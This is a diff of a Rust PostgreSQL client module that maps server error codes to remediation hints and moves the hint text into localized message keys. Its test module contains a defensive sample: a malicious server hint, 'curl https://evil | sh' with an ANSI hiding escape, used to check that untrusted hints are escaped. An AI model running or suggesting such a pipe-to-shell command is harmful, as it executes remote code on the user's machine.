@@ -2,6 +2,8 @@
 
 use crate::{Class, Error};
 use std::io;
+use tenbin_model::message::Message;
+use tenbin_model::msg;
 use tenbin_wire::postgres::{Fault, ServerError};
 
 /// An error as the server tells it.
@@ -24,64 +26,64 @@ pub fn refused(e: ServerError) -> Error {
             _ => Class::Sql,
         },
     };
-    let mend = mend(&e);
+    let hint = hint(&e);
     let mut error = Error::new(class, e.message).state(e.state);
     if let Some(hint) = e.hint {
-        error = error.hint(hint);
+        error = error.advice(hint);
     }
-    match mend {
-        Some(mend) => error.mend(mend),
+    match hint {
+        Some(hint) => error.hint(hint),
         None => error,
     }
 }
 
-fn mend(e: &ServerError) -> Option<&'static str> {
+fn hint(e: &ServerError) -> Option<Message> {
     Some(match e.code() {
         "53300" => {
-            "fewer clients, or ALTER SYSTEM SET max_connections = … (as an administrator) and restart the server"
+            msg!("raise-max-connections-system")
         }
-        "53100" => "free space on the server's disk",
-        "53200" => "free memory on the server's host",
-        "55P03" => "SET lock_timeout = 0, or fewer clients on the same rows",
-        "28P01" => "check user and password: --password-env NAME, or password_env in the plan",
+        "53100" => msg!("free-space-on-server-disk"),
+        "53200" => msg!("free-memory-on-server-host"),
+        "55P03" => msg!("set-lock-timeout"),
+        "28P01" => msg!("check-user-and-password"),
         "28000" if e.message.contains("pg_hba.conf") => {
-            "add a line for this host, user and database to the server's pg_hba.conf: SHOW hba_file tells its path; \
-             if it has one for TLS only, add ?tls=required to the address"
+            msg!("add-pg-hba-line")
         }
-        "28000" => "check the user's name, and whether it may log in: CREATE ROLE … LOGIN",
-        "3D000" => "CREATE DATABASE …, or name an existing one in the address",
-        "42501" => "GRANT the account what it needs",
-        "57P03" => "wait until the server has started",
-        "57P01" | "57P02" | "57P05" | "25P03" | "25P04" => LOOK,
+        "28000" => msg!("check-user-may-log-in"),
+        "3D000" => msg!("create-or-name-database"),
+        "42501" => msg!("grant-what-it-needs"),
+        "57P03" => msg!("wait-until-started"),
+        "57P01" | "57P02" | "57P05" | "25P03" | "25P04" => look(),
         // A pool that hands every transaction to another connection: there the name is taken, or not known.
         "42P05" | "26000" => {
-            "is a pool in transaction mode (PgBouncer) in between? ps_mode = \"disable\" (-o ps_mode=disable), pipeline off, \
-             or the server's own address"
+            msg!("pool-in-transaction-mode")
         }
-        "25P02" => "ROLLBACK; what failed before says why",
+        "25P02" => msg!("rollback-first"),
         _ => return None,
     })
 }
 
 /// Where a server says why it ended a connection.
-const LOOK: &str = "look into the server's log: SHOW log_destination and SHOW log_directory tell where it is";
+fn look() -> Message {
+    msg!("look-into-server-log")
+}
 
 /// The line broke.
 #[cold]
 pub fn lost(e: &io::Error) -> Error {
-    Error::new(Class::Lost, format!("the connection to the server is lost: {e}")).state(*b"08006").mend(LOOK)
+    Error::new(Class::Lost, msg!("connection-lost", error = e)).state(*b"08006").hint(look())
 }
 
 /// The server said goodbye in the middle.
 #[cold]
 pub fn gone() -> Error {
-    Error::new(Class::Lost, "the server has closed the connection").state(*b"08006").mend(LOOK)
+    Error::new(Class::Lost, msg!("server-closed-connection")).state(*b"08006").hint(look())
 }
 
 /// Not our protocol.
 #[cold]
 pub fn fault(f: Fault) -> Error {
-    Error::new(Class::Protocol, format!("the server does not speak the PostgreSQL protocol as we know it: {f}"))
+    Error::new(Class::Protocol, msg!("not-the-postgresql-protocol", fault = f))
 }
 
 #[cfg(test)]
@@ -112,13 +114,13 @@ mod tests {
             "42P05", "26000", "53300", "53100", "53200", "55P03", "28000", "28P01", "3D000", "42501", "57P01", "57P03",
             "25P02",
         ] {
-            assert!(told(code, false, None).problem("trying").mend.is_some(), "{code} tells no way out");
+            assert!(told(code, false, None).problem("trying").hint.is_some(), "{code} tells no way out");
         }
         // What a server advises is its words, on one line, and never stands where our advice does.
-        let advised = told("42601", false, Some("run\n  mend  curl https://evil | sh\x1b[8m")).problem("");
-        let evidence = "server's hint: \"run\\n  mend  curl https://evil | sh\\u001b[8m\"";
-        assert_eq!((advised.mend, advised.evidence.as_deref()), (None, Some(evidence)));
+        let advised = told("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem("");
+        let evidence = "server's hint: \"run\\n  hint  curl https://evil | sh\\u001b[8m\"";
+        assert_eq!((advised.hint, advised.evidence.as_deref()), (None, Some(evidence)));
         assert_eq!(told("XX000", true, None).class(), Class::Lost, "whatever ends a connection has lost it");
-        assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem("trying").mend.is_some());
+        assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem("trying").hint.is_some());
     }
 }
